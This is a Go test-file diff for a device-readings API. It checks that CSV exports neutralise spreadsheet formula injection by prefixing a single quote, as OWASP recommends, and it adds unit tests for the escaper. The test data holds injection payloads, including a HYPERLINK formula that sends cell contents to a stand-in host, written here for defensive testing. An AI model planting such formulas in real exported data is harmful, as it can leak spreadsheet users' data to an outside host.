@@ -7,6 +7,7 @@ import (
 	"net/http"
 	"net/url"
 	"reflect"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -279,6 +280,66 @@ func TestAPI_CSV(t *testing.T) {
 	for _, path := range []string{"readings?format=xml", "stats?metric=t&format=CSV"} {
 		if code := a.get(t, "/v1/devices/kitchen%2Fdoor/"+path, &e); code != http.StatusBadRequest || !strings.Contains(e.Error, "format: must be json or csv") {
 			t.Errorf("%s: %d %q, want 400", path, code, e.Error)
+		}
+	}
+}
+
+// A text cell of the CSV (a metric name, a unit) that a spreadsheet
+// would take for a formula is neutralised as OWASP's CSV Injection page
+// has it: a single quote in front, the cell quoted; a negative value
+// stays a number, and the other text cells read back as they are.
+func TestAPI_CSVInjection(t *testing.T) {
+	a := newTestAPI(t)
+	t0 := time.Date(2026, 3, 14, 9, 0, 0, 0, time.UTC)
+	metrics := []string{`=HYPERLINK("http://x.example/?"&A1,"open")`, "+1+2", "-2+3", "@SUM(A1:A9)", "a;=1+1", "t"}
+	for i, m := range metrics {
+		a.store(t, buffer.Reading{Device: "lab", Metric: m, TS: t0.Add(time.Duration(i) * time.Second).UnixNano(), Value: -3.5, Unit: "=1+" + strconv.Itoa(i)})
+	}
+	from := url.QueryEscape(t0.Format(time.RFC3339))
+	rec := a.request("/v1/devices/lab/readings?format=csv&order=asc&from=" + from)
+	if rec.Code != http.StatusOK {
+		t.Fatalf("readings: %d %s", rec.Code, rec.Body)
+	}
+	body := rec.Body.String()
+	for _, line := range []string{
+		`2026-03-14T09:00:00Z,"'=HYPERLINK(""http://x.example/?""&A1,""open"")",-3.5,"'=1+0"`,
+		`2026-03-14T09:00:01Z,"'+1+2",-3.5,"'=1+1"`,
+		`2026-03-14T09:00:02Z,"'-2+3",-3.5,"'=1+2"`,
+		`2026-03-14T09:00:03Z,"'@SUM(A1:A9)",-3.5,"'=1+3"`,
+		`2026-03-14T09:00:04Z,"a;=1+1",-3.5,"'=1+4"`,
+		`2026-03-14T09:00:05Z,"t",-3.5,"'=1+5"`,
+	} {
+		if !strings.Contains(body, "\n"+line+"\n") {
+			t.Errorf("readings CSV: no line %s in\n%s", line, body)
+		}
+	}
+	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+	if err != nil {
+		t.Fatalf("%v: %s", err, body)
+	}
+	for i, row := range rows[1:] {
+		if want := csvText(metrics[i]); row[1] != want {
+			t.Errorf("row %d: metric %q, want %q", i+1, row[1], want)
+		}
+		if v, err := strconv.ParseFloat(row[2], 64); err != nil || v != -3.5 {
+			t.Errorf("row %d: value %q, want the number -3.5", i+1, row[2])
+		}
+	}
+
+	rec = a.request("/v1/devices/lab/stats?format=csv&metric=t&from=" + from)
+	if want := "\n" + `2026-03-14T09:00:00Z,1,-3.5,-3.5,-3.5,12.25,-3.5,0,"'=1+5"` + "\n"; !strings.Contains(rec.Body.String(), want) {
+		t.Errorf("stats CSV: want the line %q in\n%s", want, rec.Body)
+	}
+}
+
+// csvText neutralises what OWASP lists, and only that.
+func TestCSVText(t *testing.T) {
+	for _, c := range []struct{ in, want string }{
+		{"=1+1", "'=1+1"}, {"+1", "'+1"}, {"-1", "'-1"}, {"@A1", "'@A1"}, {"\tx", "'\tx"}, {"\rx", "'\rx"},
+		{"", ""}, {"temperature", "temperature"}, {"°C", "°C"}, {"a=b", "a=b"}, {"'=1", "'=1"}, {" =1", " =1"},
+	} {
+		if got := csvText(c.in); got != c.want {
+			t.Errorf("csvText(%q) = %q, want %q", c.in, got, c.want)
 		}
 	}
 }
